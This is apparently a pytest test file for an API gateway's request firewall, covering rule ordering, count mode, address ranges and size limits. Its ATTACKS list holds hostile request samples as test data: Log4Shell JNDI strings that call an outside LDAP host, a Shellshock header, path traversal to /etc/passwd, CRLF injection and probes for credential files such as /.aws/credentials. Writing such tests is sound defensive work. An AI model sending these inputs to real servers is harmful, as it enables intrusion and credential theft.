"""The firewall: what it refuses, in which order, and what it must never look at."""

import json
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.fakes import make_job
from tests.support.prompts import INNOCENT
from zuebee.admission.firewall import MAX_PLANS, RuleFirewall
from zuebee.config.settings_auth import FirewallRuleSettings, FirewallSettings
from zuebee.contracts.admission import Caller
from zuebee.contracts.errors import Refusal
from zuebee.contracts.heads import HeadMemo
from zuebee.contracts.inference import Job

CHAT = "/v1/chat/completions"
FIELDS = {b"host": b"gate", b"content-type": b"application/json", b"user-agent": b"OpenAI/Python 3.52"}


def firewall(**changes: Any) -> tuple[RuleFirewall, dict[tuple[str, str], int]]:
    counts: dict[tuple[str, str], int] = {}
    if "rules" in changes:
        changes["rules"] = [FirewallRuleSettings(**rule) for rule in changes["rules"]]
    return RuleFirewall(FirewallSettings(**changes), counts), counts


def caller(
    path: str = CHAT, method: str = "POST", *, address: str = "203.0.113.9", route: str = "", **fields: str
) -> Caller:
    extra = {name.replace("_", "-").encode(): value.encode("latin-1") for name, value in fields.items()}
    whole = {**FIELDS, **extra}
    if not whole[b"content-type"]:
        del whole[b"content-type"]
    known = route or (path if path.startswith(("/v1/", "/health", "/metrics")) else "other")
    return Caller(method, known, whole, address, path)


def rule_of(refusal: Refusal | None) -> str:
    """The rule that a refusal names; empty: nothing was refused."""
    if refusal is None:
        return ""
    assert refusal.code == "request_blocked"
    found = re.search(r"\(rule `([^`]+)`\)", refusal.message)
    assert found is not None
    return found[1]


ATTACKS = [
    ("scanner_path", caller("/.env", "GET")),
    ("scanner_path", caller("/.git/config", "GET")),
    ("scanner_path", caller("/api/.env.production", "GET")),
    ("scanner_path", caller("/.aws/credentials", "GET")),
    ("scanner_path", caller("/wp-login.php", "GET")),
    ("scanner_path", caller("//wp-admin/", "GET")),
    ("scanner_path", caller("/xmlrpc.php")),
    ("scanner_path", caller("/blog/index.PHP", "GET")),
    ("scanner_path", caller("/phpMyAdmin/", "GET")),
    ("scanner_path", caller("/cgi-bin/luci")),
    ("scanner_path", caller("/actuator/env", "GET")),
    ("scanner_path", caller("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")),
    ("scanner_path", caller("/HNAP1/")),
    ("scanner_path", caller("/server-status", "GET")),
    ("path_trick", caller("/../../etc/passwd", "GET")),
    ("path_trick", caller("/static/..\\..\\windows\\win.ini", "GET")),
    ("path_trick", caller("/%2e%2e/%2e%2e/etc/passwd", "GET")),
    ("path_trick", caller("/a\x00b", "GET")),
    ("path_trick", caller("/a\r\nset-cookie: b", "GET")),
    ("method", caller(method="TRACE")),
    ("method", caller("/", "TRACK")),
    ("method", caller("/v1/models", "DEBUG")),
    ("scanner_agent", caller(user_agent="sqlmap/1.8#stable (https://sqlmap.org)")),
    ("scanner_agent", caller("/", "GET", user_agent="Mozilla/5.0 (Nikto/2.5.0)")),
    ("header_attack", caller(user_agent="${jndi:ldap://203.0.113.1/a}")),
    ("header_attack", caller(x_api_version="${${lower:j}ndi:ldap://h/a}")),
    ("header_attack", caller(referer="() { :; }; /bin/true")),
    ("browser_form", caller(content_type="application/x-www-form-urlencoded", origin="https://elsewhere.example")),
    # What `fetch` sends of bytes without a type, also to an address that never agreed.
    ("browser_form", caller(content_type="", origin="https://elsewhere.example", content_length="9")),
    ("browser_form", caller(content_type="", origin="null", transfer_encoding="chunked")),
    ("content_types", caller(content_type="text/xml")),
    ("content_types", caller(content_type="multipart/form-data; boundary=x")),
]


@pytest.mark.requirement("A060")
@pytest.mark.parametrize(("rule", "attack"), ATTACKS)
def test_an_attack_is_blocked_by_its_rule_and_counted(rule: str, attack: Caller) -> None:
    wall, counts = firewall()
    assert rule_of(wall.check_caller(attack)) == rule
    assert counts == {(rule, "blocked"): 1}


@pytest.mark.parametrize(("rule", "attack"), ATTACKS)
def test_an_attack_passes_a_firewall_that_only_counts(rule: str, attack: Caller) -> None:
    wall, counts = firewall(mode="count")
    assert wall.check_caller(attack) is None
    assert counts[rule, "counted"] == 1
    assert not any(action == "blocked" for _, action in counts)


@pytest.mark.requirement("A060")
def test_no_prompt_is_ever_an_attack() -> None:
    wall, counts = firewall(max_images=0, max_output_tokens=4096)
    assert len(INNOCENT) >= 300
    for text in INNOCENT:
        body = json.dumps({"model": "m", "messages": [{"role": "user", "content": text}]}, ensure_ascii=False)
        assert wall.check_caller(caller()) is None
        assert wall.check_job(caller(), make_job(body=body.encode())) is None
    assert counts == {}


def test_a_rule_that_looks_into_bodies_would_see_them() -> None:
    wall, counts = firewall(rules=[{"name": "words", "body": True, "pattern": "(?i)drop table"}])
    refused = [rule_of(wall.check_job(caller(), make_job(body=text.encode()))) for text in INNOCENT]
    assert 0 < refused.count("words") == counts["words", "blocked"] < len(INNOCENT)


INNOCENT_CALLERS = [
    caller(),
    caller(content_type="application/json; charset=utf-8"),
    caller(content_type="Application/JSON"),
    caller(content_type="application/x-www-form-urlencoded"),
    caller(content_type=""),
    Caller("POST", CHAT, {b"host": b"gate"}, "", CHAT),
    caller("/chat/completions", route=CHAT),
    caller("/v1/models", "GET"),
    caller("/v1/models/org/model.php", "GET"),
    caller("/v1/models/..", "GET"),
    caller("/", "GET"),
    caller("/favicon.ico", "GET"),
    caller("/robots.txt", "GET"),
    caller("/.well-known/security.txt", "GET"),
    caller("/v1/responses"),
    caller("/docs", "GET"),
    caller(
        user_agent="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36"
    ),
    caller(x_trace='{"a": {"b": 1}}', cookie="a={b}; c=${d}"),
    caller(content_type="", origin="https://app.example", method="OPTIONS"),
    caller(content_type="", origin="https://app.example", method="GET", content_length="0"),
    caller(origin="https://app.example", content_type="application/json; charset=utf-8", content_length="9"),
    caller(x_name="J\xfcrgen \x80"),
]


@pytest.mark.parametrize("innocent", INNOCENT_CALLERS)
def test_what_clients_send_passes(innocent: Caller) -> None:
    wall, counts = firewall()
    assert wall.check_caller(innocent) is None
    assert counts == {}


def test_who_accepts_any_content_type_still_accepts_no_forms_of_web_pages() -> None:
    wall, _ = firewall(content_types=())
    assert wall.check_caller(caller(content_type="text/xml")) is None
    assert rule_of(wall.check_caller(caller(content_type="text/xml", origin="https://x.example"))) == "browser_form"
    wall, _ = firewall(content_types=(), default_rules=False)
    assert wall.check_caller(caller(content_type="text/xml", origin="https://x.example")) is None


@pytest.mark.parametrize("path", ["/health", "/health/readiness", "/metrics"])
def test_operators_routes_are_untouched_but_by_rules_that_name_them(path: str) -> None:
    limits = {"allowed_addresses": ["10.0.0.0/8"], "max_headers": 1, "rules": [{"name": "get", "methods": ["GET"]}]}
    wall, _ = firewall(**limits)
    probe = caller(path, "GET", user_agent="kube-probe/1.31")
    assert wall.check_caller(probe) is None
    named = {"name": "outside", "paths": ["/(health|metrics).*"], "not_addresses": ["10.0.0.0/8"]}
    wall, _ = firewall(rules=[named])
    assert rule_of(wall.check_caller(probe)) == "outside"
    assert wall.check_caller(caller(path, "GET", address="10.1.2.3")) is None


def test_metrics_may_live_where_scanners_look() -> None:
    wall, _ = firewall()
    assert wall.check_caller(caller("/actuator/prometheus", "GET", route="/metrics")) is None
    wall, _ = firewall()
    assert rule_of(wall.check_caller(caller("/actuator/prometheus", "GET"))) == "scanner_path"


def test_the_first_rule_that_matches_decides() -> None:
    rules = [
        {"name": "ours", "action": "allow", "addresses": ["198.51.100.0/24"]},
        {"name": "closed", "paths": ["/v1/.*"], "status": 404},
    ]
    wall, counts = firewall(rules=rules, denied_addresses=["198.51.100.7"])
    assert wall.check_caller(caller(address="198.51.100.7")) is None
    refusal = wall.check_caller(caller())
    assert (rule_of(refusal), refusal and refusal.status, refusal and refusal.type) == (
        "closed",
        404,
        "not_found_error",
    )
    assert counts == {("ours", "allowed"): 1, ("closed", "blocked"): 1}


def test_a_rule_that_only_counts_hides_none_behind_it() -> None:
    rules = [{"name": "watch", "mode": "count", "methods": ["POST"]}, {"name": "block", "methods": ["POST"]}]
    wall, counts = firewall(rules=rules)
    assert rule_of(wall.check_caller(caller())) == "block"
    assert counts == {("watch", "counted"): 1, ("block", "blocked"): 1}


def test_a_rule_that_is_off_is_not_there() -> None:
    wall, counts = firewall(rules=[{"name": "off", "enabled": False, "methods": ["POST"]}])
    assert wall.check_caller(caller()) is None
    assert counts == {}


def test_who_is_allowed_may_also_exceed_the_figures() -> None:
    rules = [{"name": "ours", "action": "allow", "addresses": ["198.51.100.0/24"]}]
    wall, _ = firewall(rules=rules, max_output_tokens=10)
    job = make_job(max_output_tokens=11)
    assert wall.check_job(caller(address="198.51.100.7"), job) is None
    assert rule_of(wall.check_job(caller(), job)) == "max_output_tokens"


ADDRESSES = [
    ("203.0.113.9", True), ("203.0.113.10", False), ("::ffff:203.0.113.9", True), ("::ffff:10.1.1.1", True),
    ("2001:db8::1", True), ("2001:db8:1::1", False), ("10.255.0.1", True), ("11.0.0.1", False), ("", False),
    ("unix", False), ("2001:DB8:0:0:0:0:0:2", True), ("172.16.5.1", True), ("172.17.0.1", False),
]  # fmt: skip


@pytest.mark.parametrize(("address", "inside"), ADDRESSES)
def test_addresses_and_ranges(address: str, inside: bool) -> None:
    listed = ["203.0.113.9", "10.0.0.0/8", "2001:db8::/64", "::ffff:172.16.0.0/112"]
    denied, _ = firewall(denied_addresses=listed)
    allowed, _ = firewall(allowed_addresses=listed)
    one = caller(address=address)
    assert rule_of(denied.check_caller(one)) == ("denied_addresses" if inside else "")
    assert rule_of(allowed.check_caller(one)) == ("" if inside else "allowed_addresses")


def test_sizes() -> None:
    wall, _ = firewall(max_headers=4, max_header_bytes=300, max_body_size=100)
    assert wall.check_caller(caller(content_length="100")) is None
    large = wall.check_caller(caller(content_length="101"))
    assert (rule_of(large), large and large.status) == ("max_body_size", 413)
    assert rule_of(wall.check_caller(caller(a="1", b="2"))) == "max_headers"
    assert rule_of(wall.check_caller(caller(a="1" * 300))) == "max_header_bytes"
    assert rule_of(wall.check_job(caller(), make_job(body=b" " * 101))) == "max_body_size"
    assert wall.check_job(caller(), make_job(body=b" " * 100)) is None


def test_figures_name_the_field() -> None:
    wall, _ = firewall(max_choices=4, max_output_tokens=100)
    for job, rule, param in (
        (make_job(choices=5), "max_choices", "n"),
        (make_job(max_output_tokens=101), "max_output_tokens", "max_tokens"),
    ):
        refusal = wall.check_job(caller(), job)
        assert (rule_of(refusal), refusal and refusal.param, refusal and refusal.status) == (rule, param, 400)
    assert wall.check_job(caller(), make_job(choices=4, max_output_tokens=100)) is None
    assert rule_of(firewall()[0].check_job(caller(), make_job(choices=129))) == "max_choices"


def test_own_conditions() -> None:
    rules: list[dict[str, Any]] = [
        {"name": "beta", "header": "x-beta"},
        {"name": "old", "header": "user-agent", "pattern": "^curl/7[.]"},
        {"name": "debug", "query": True, "pattern": "(^|&)debug=1"},
        {"name": "secret", "body": True, "paths": ["/v1/embeddings"], "pattern": "canary-[0-9]{4}"},
        {"name": "put", "methods": ["put"], "status": 429},
    ]
    wall, _ = firewall(rules=rules)
    assert rule_of(wall.check_caller(caller(x_beta=""))) == "beta"
    assert rule_of(wall.check_caller(caller(user_agent="curl/7.88"))) == "old"
    assert rule_of(wall.check_caller(caller(user_agent="curl/8.1"))) == ""
    asked = caller()
    asked.query = b"a=1&debug=1"
    assert rule_of(wall.check_caller(asked)) == "debug"
    assert rule_of(wall.check_job(caller("/v1/embeddings"), make_job(body=b"canary-1234"))) == "secret"
    assert rule_of(wall.check_job(caller(), make_job(body=b"canary-1234"))) == ""
    refusal = wall.check_caller(caller(method="PUT"))
    assert refusal is not None
    assert (refusal.status, refusal.type) == (429, "rate_limit_error")


def test_what_is_remembered_of_paths_is_bounded() -> None:
    wall, _ = firewall()
    for number in range(MAX_PLANS + 10):
        wall.check_caller(caller(f"/{number}", "GET"))
    wall.check_caller(caller("/" + "x" * 5000, "GET"))
    assert len(wall._plans) <= MAX_PLANS


TEXT = st.text(st.characters(max_codepoint=255), max_size=30)
RULES = st.lists(
    st.fixed_dictionaries(
        {"mode": st.sampled_from(["block", "count"]), "methods": st.just(["POST"]), "status": st.integers(400, 499)},
        optional={"paths": st.just([".*"]), "header": st.just("a"), "not_addresses": st.just(["10.0.0.0/8"])},
    ),
    max_size=3,
)


@pytest.mark.slow
@settings(max_examples=150, deadline=None)
@given(rules=RULES, path=TEXT, method=st.sampled_from(["GET", "POST", "TRACE"]), value=TEXT, body=TEXT,
       address=st.sampled_from(["10.0.0.1", "x", "::1"]), known=st.booleans(), count=st.booleans())  # fmt: skip
def test_counting_never_refuses(
    rules: list[dict[str, Any]], path: str, method: str, value: str, body: str, address: str, known: bool, count: bool
) -> None:
    named = [{"name": f"r{index}", **rule} for index, rule in enumerate(rules)]
    wall, counts = firewall(
        mode="count" if count else "block", rules=named, max_headers=1, max_header_bytes=5, max_body_size=0,
        max_output_tokens=1, max_choices=1, max_images=0, denied_addresses=["::1"], allowed_addresses=["10.0.0.0/8"],
    )  # fmt: skip
    one = caller("/" + path, method, address=address, route=CHAT if known else "other", a=value, content_type="t/x")
    job: Job = make_job(choices=2, max_output_tokens=5, body=body.encode() + b" ")
    answers = [wall.check_caller(one), wall.check_job(one, job)]
    assert (answers == [None, None]) is count, "what is counted here is refused there"
    assert counts
    assert any(action == "blocked" for _, action in counts) is not count


def repeated(memo: HeadMemo, **fields: str) -> Caller:
    asks = caller(**fields)
    asks.memo = memo
    return asks


def test_a_head_that_passed_passes_when_it_comes_again() -> None:
    target, counts = firewall()
    memo = HeadMemo()
    assert target.check_caller(repeated(memo)) is None
    assert memo.passed_by is target
    assert target.check_caller(repeated(memo)) is None
    assert not counts
    # Another firewall, after a reload, looks for itself.
    other, _ = firewall(rules=[{"name": "no_agents", "header": "user-agent"}])
    assert rule_of(other.check_caller(repeated(memo))) == "no_agents"


@pytest.mark.parametrize(
    ("settings_", "fields"),
    [
        ({"rules": [{"name": "seen", "header": "x-seen", "mode": "count"}]}, {"x_seen": "1"}),
        ({"max_body_size": 100}, {}),
        ({}, {"content_type": ""}),
        ({}, {"content_type": "text/plain"}),
    ],
)
def test_what_may_depend_on_more_than_the_head_is_looked_at_each_time(
    settings_: dict[str, Any], fields: dict[str, str]
) -> None:
    target, counts = firewall(**settings_)
    memo = HeadMemo()
    for _ in range(3):
        target.check_caller(repeated(memo, **fields))
    assert memo.passed_by is None
    assert set(counts.values()) in ({3}, set())


def test_a_page_cannot_send_a_form_behind_an_empty_one() -> None:
    target, _ = firewall()
    memo = HeadMemo()
    page = {"content_type": "", "origin": "https://elsewhere.example"}
    assert target.check_caller(repeated(memo, **page, content_length="0")) is None
    assert rule_of(target.check_caller(repeated(memo, **page, content_length="9"))) == "browser_form"
